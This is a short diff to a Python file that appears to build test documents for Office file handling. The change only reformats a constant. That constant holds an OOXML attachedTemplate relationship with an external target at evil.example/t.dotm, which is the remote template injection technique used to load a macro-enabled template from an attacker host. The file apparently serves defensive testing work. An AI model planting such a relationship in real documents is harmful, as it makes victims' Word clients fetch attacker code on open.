@@ -42,7 +42,10 @@ def changed(change: Change) -> bytes:
     return pack(parts)
 
 
-LINK = b'<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+LINK = (
+    b'<Relationship Id="rId99" Type="http://x/attachedTemplate"'
+    b' Target="http://evil.example/t.dotm" TargetMode="External"/>'
+)
 PICTURE = (
     '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
     '<wp:docPr id="1" name="logo"/></wp:inline></w:drawing></w:r></w:p>'
